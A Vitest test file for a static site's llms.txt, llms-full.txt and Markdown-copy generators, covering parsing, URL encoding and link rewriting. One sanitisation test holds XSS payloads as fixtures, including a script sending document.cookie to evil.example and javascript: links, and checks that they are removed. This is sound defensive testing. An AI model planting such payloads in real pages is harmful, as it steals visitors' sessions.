import { mkdtemp, readdir, readFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildLlmsFullTxt, buildLlmsTxt, buildMarkdownCopy } from '@/lib/llms';
import { writeBesidePages } from '@/lib/beside-pages';
import { parseLlmsTxt, referenceParseLlms } from './helpers/llms-parser';
import { makeContent, makePage, makePost } from './helpers/make-content';

function sample() {
  return makeContent({
    site: { url: 'https://user.github.io/field-notes', title: 'Field Notes', description: 'Notes\non static sites.' },
    posts: [
      makePost({ slug: 'older', title: 'Older', date: new Date('2025-01-01T00:00:00Z'), tags: ['Web'] }),
      makePost({ slug: 'newer', title: 'A [tricky] \\ title', description: 'Line one\nline two  spaced', date: new Date('2025-02-01T00:00:00Z'), tags: ['Web', 'Notes'] }),
    ],
    pages: [makePage({ slug: 'about', title: 'About' })],
  });
}

describe('parseLlmsTxt (the test helper)', () => {
  it('rejects files that break the grammar', () => {
    expect(() => parseLlmsTxt('no title')).toThrow(/H1/);
    expect(() => parseLlmsTxt('# T\n\n## S\n\nprose here')).toThrow(/list item/);
    expect(() => parseLlmsTxt('# T\n\n### Deep')).toThrow(/deeper than H2/);
    expect(() => parseLlmsTxt('# T\n\n## S\n\n- [a ] b](https://x/)')).toThrow();
    expect(parseLlmsTxt('# T\n\n> S\n\n## A\n\n- [a \\] b](https://x/): n').sections[0].links[0]).toEqual({ title: 'a ] b', url: 'https://x/', notes: 'n' });
  });
});

describe('buildLlmsTxt', () => {
  it('has the title, a one-line summary, and Posts (newest first), Pages, Optional (last) sections', () => {
    const file = parseLlmsTxt(buildLlmsTxt(sample()));
    expect(file.title).toBe('Field Notes');
    expect(file.summary).toBe('Notes on static sites.');
    expect(file.details.length).toBe(1);
    expect(file.sections.map((s) => s.name)).toEqual(['Posts', 'Pages', 'Optional']);
    const [posts, pages, optional] = file.sections;
    expect(posts.links.map((l) => l.title)).toEqual(['A ［tricky］ \\ title', 'Older']);
    expect(posts.links[0].url).toBe('https://user.github.io/field-notes/posts/newer/index.html.md');
    expect(posts.links[0].notes).toBe('Line one line two spaced');
    expect(pages.links).toEqual([{ title: 'About', url: 'https://user.github.io/field-notes/about/index.html.md', notes: 'A description.' }]);
    const optionalUrls = optional.links.map((l) => l.url);
    expect(optionalUrls).toContain('https://user.github.io/field-notes/tags/web/');
    expect(optionalUrls).toContain('https://user.github.io/field-notes/rss.xml');
    expect(optionalUrls).toContain('https://user.github.io/field-notes/llms-full.txt');
  });

  it('parses with the llmstxt.org reference parser, titles with square brackets included', () => {
    const titles = ['Array[T] in ] practice', 'Escaped \\] bracket', '[Draft] notes', 'C:\\temp'];
    const content = makeContent({ posts: titles.map((title, i) => makePost({ slug: `p${i}`, title, description: 'See [this]: ok', date: new Date(Date.UTC(2025, 0, 10 - i)) })) });
    const file = referenceParseLlms(buildLlmsTxt(content));
    expect(file.title).toBe('Test Site');
    // Square brackets read as their full-width forms; everything else as written.
    expect(file.sections.Posts.map((l) => l.title)).toEqual(['Array［T］ in ］ practice', 'Escaped \\］ bracket', '［Draft］ notes', 'C:\\temp']);
    expect(file.sections.Posts.map((l) => l.url)).toEqual(titles.map((_, i) => `https://example.com/posts/p${i}/index.html.md`));
    expect(file.sections.Posts[0].desc).toBe('See [this]: ok');
    // The strict CommonMark-minded reader agrees.
    expect(parseLlmsTxt(buildLlmsTxt(content)).sections[0].links.map((l) => l.title)).toEqual(file.sections.Posts.map((l) => l.title));
  });

  it('percent-encodes parentheses and spaces in URLs and omits empty sections', () => {
    const content = makeContent({ posts: [makePost({ path: '/posts/a (b)/', title: 'P' })] });
    const text = buildLlmsTxt(content);
    const file = parseLlmsTxt(text);
    expect(file.sections.map((s) => s.name)).toEqual(['Posts', 'Optional']);
    expect(file.sections[0].links[0].url).toBe('https://example.com/posts/a%20%28b%29/index.html.md');
    expect(decodeURI(file.sections[0].links[0].url)).toContain('/posts/a (b)/');
  });
});

describe('buildMarkdownCopy', () => {
  const post = makePost({
    slug: 'a',
    title: 'Post *A*',
    date: new Date('2025-02-01T00:00:00Z'),
    updated: new Date('2025-03-01T12:00:00Z'),
    markdown: [
      'See [b](../b.md), [the image](./pic.png "t"), [ext](https://other.example/x) and [top](#top).',
      '',
      '![chart](./chart.png)',
      '',
      'A [reference][r] link and [root](/rss.xml).',
      '',
      '[r]: ../c.md',
      '',
    ].join('\n'),
    links: { '../b.md': '/posts/b/', './pic.png': '/posts/a/pic.png', 'https://other.example/x': 'https://other.example/x', './chart.png': '/posts/a/chart.png', '../c.md': '/posts/c/', '/rss.xml': '/rss.xml' },
  });
  const content = makeContent({ site: { url: 'https://user.github.io/field-notes' }, posts: [post] });
  const copy = buildMarkdownCopy(post, content);

  it('starts with the title heading and a front block with URL and dates', () => {
    const lines = copy.split('\n');
    expect(lines[0]).toBe('# Post \\*A\\*');
    expect(copy).toContain('https://user.github.io/field-notes/posts/a/');
    expect(copy).toContain('Published: 2025-02-01T00:00:00.000Z');
    expect(copy).toContain('Updated: 2025-03-01T12:00:00.000Z');
  });

  it('makes every link, image and definition URL absolute', () => {
    expect(copy).toContain('[b](https://user.github.io/field-notes/posts/b/)');
    expect(copy).toContain('[the image](https://user.github.io/field-notes/posts/a/pic.png "t")');
    expect(copy).toContain('[ext](https://other.example/x)');
    expect(copy).toContain('[top](https://user.github.io/field-notes/posts/a/#top)');
    expect(copy).toContain('![chart](https://user.github.io/field-notes/posts/a/chart.png)');
    expect(copy).toContain('[r]: https://user.github.io/field-notes/posts/c/');
    expect(copy).toContain('[root](https://user.github.io/field-notes/rss.xml)');
    expect(copy).not.toMatch(/\]\((?!https:)/);
  });

  it('sanitises raw HTML tag by tag as the page does, and keeps the Markdown and code around it as written', async () => {
    // Code is text: HTML shown in it stays as written.
    const code = ['', '`<script>in a code span</script>`', '', '```html', '<script>in a code block</script>', '```', ''];
    const markdown = [
      'Press <kbd onclick="steal()">Ctrl</kbd> and <script>alert(1)</script>done. <!-- note to self -->',
      '',
      '<script>',
      'fetch("https://evil.example/?c=" + document.cookie)',
      '</script>',
      '',
      '<div class="note" style="color:red"><a href="javascript:alert(1)">x</a> <img src="https://cdn.example/a.png" onerror="y()"></div>',
      '',
      '> <iframe src="https://evil.example/"></iframe>Quoted **bold**',
      '',
      // Markdown's own links and images keep only the schemes the page keeps.
      '[run](javascript:alert(1)) [data](<DATA:text/html,x>) ![i](vbscript:x) [mail](mailto:a@example.com) [ref][r]',
      '',
      '[r]: JavaScript:alert(2)',
      ...code,
    ].join('\n');
    const entry = makePost({ slug: 'html', markdown });
    const body = buildMarkdownCopy(entry, makeContent({ posts: [entry] })).split('\n\n').slice(2).join('\n\n');
    expect(body).toBe(
      [
        'Press <kbd>Ctrl</kbd> and done. ',
        '',
        '',
        '',
        '<div><a>x</a> <img src="https://cdn.example/a.png"></div>',
        '',
        '> Quoted **bold**',
        '',
        '[run](<>) [data](<>) ![i](<>) [mail](mailto:a@example.com) [ref][r]',
        '',
        '[r]: <>',
        ...code,
      ].join('\n'),
    );
    // The compile records the same spans as a fresh parse.
    const { compileMarkdown } = await import('@/lib/markdown');
    const resolver = { basePath: '', resolve: async (url: string) => ({ kind: 'external' as const, url }) };
    const compiled = await compileMarkdown(markdown, resolver, { site: { url: 'https://example.com' }, path: '/posts/html/' });
    expect(buildMarkdownCopy({ ...entry, copySpans: compiled.copySpans }, makeContent({ posts: [entry] }))).toBe(buildMarkdownCopy(entry, makeContent({ posts: [entry] })));
    expect(compiled.html).not.toContain('<script');
  });

  it('is written for every post and page at <path>index.html.md', async () => {
    const full = makeContent({ posts: [makePost({ slug: 'x', title: 'X marks' })], pages: [makePage({ slug: 'about', title: 'About us' })] });
    const dir = await mkdtemp(path.join(os.tmpdir(), 'masthead-copies-'));
    await writeBesidePages(full, dir);
    expect((await readdir(dir, { recursive: true })).filter((f) => f.endsWith('.md')).sort()).toEqual(['about/index.html.md', 'posts/x/index.html.md']);
    expect(await readFile(path.join(dir, 'posts/x/index.html.md'), 'utf8')).toMatch(/^# X marks\n\n- URL: <https:\/\/example\.com\/posts\/x\/>/);
  });
});

describe('buildLlmsFullTxt', () => {
  it('holds every post and page in llms.txt order, each starting with its heading and URL', () => {
    const content = sample();
    const text = buildLlmsFullTxt(content);
    const headings = [...text.matchAll(/^# (.+)$/gm)].map((m) => m[1]);
    expect(headings).toEqual(['Field Notes', 'A \\[tricky] \\ title', 'Older', 'About']);
    for (const path of ['/posts/newer/', '/posts/older/', '/about/']) {
      const at = text.indexOf(`https://user.github.io/field-notes${path}`);
      expect(at, path).toBeGreaterThan(-1);
    }
    expect(text.indexOf('/posts/newer/')).toBeLessThan(text.indexOf('/posts/older/'));
    expect(text.indexOf('/posts/older/')).toBeLessThan(text.indexOf('/about/'));
  });
});
